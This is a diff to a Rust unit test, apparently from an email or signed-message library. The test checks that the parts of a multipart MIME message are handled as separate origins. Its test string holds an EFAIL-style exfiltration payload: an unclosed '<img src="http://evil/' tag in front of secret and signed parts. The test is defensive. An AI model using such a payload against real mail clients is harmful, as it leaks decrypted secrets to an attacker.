@@ -429,8 +429,10 @@ fn parts_of_a_multipart_are_origins_of_their_own() {
     ))
     .unwrap();
     let mixed = format!(
-        "From: alice@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n\
-         --outer\r\nContent-Type: text/plain\r\n\r\n<img src=\"http://evil/\r\n--outer\r\n{secret}\r\n--outer\r\n{signed}\r\n--outer--\r\n"
+        "From: alice@example.com\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=outer\r\n\r\n\
+         --outer\r\nContent-Type: text/plain\r\n\r\n<img src=\"http://evil/\r\n\
+         --outer\r\n{secret}\r\n--outer\r\n{signed}\r\n--outer--\r\n"
     );
     let opened = opened(mixed.as_bytes());
     assert!(opened.error.is_none(), "{:?}", opened.error);
